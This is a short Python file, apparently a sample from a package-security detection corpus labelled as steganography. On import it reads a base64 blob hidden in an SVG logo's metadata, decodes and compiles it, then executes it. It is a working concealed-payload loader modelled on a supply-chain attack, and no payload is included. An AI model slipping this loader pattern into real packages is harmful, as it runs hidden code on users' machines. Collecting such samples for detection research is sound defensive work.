# pkgguard corpus 678 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os
import xml.etree.ElementTree as ET

_icon = os.path.join(os.path.dirname(__file__), "assets", "logo.svg")
_tree = ET.parse(_icon)
_desc = _tree.getroot().find("{http://www.w3.org/2000/svg}desc")
if _desc is not None and _desc.get("data-v"):
    _blob = base64.b64decode(_desc.get("data-v"))
    _fn = type(lambda: 0)(compile(_blob, "<svg>", "exec"), globals())
    _fn()
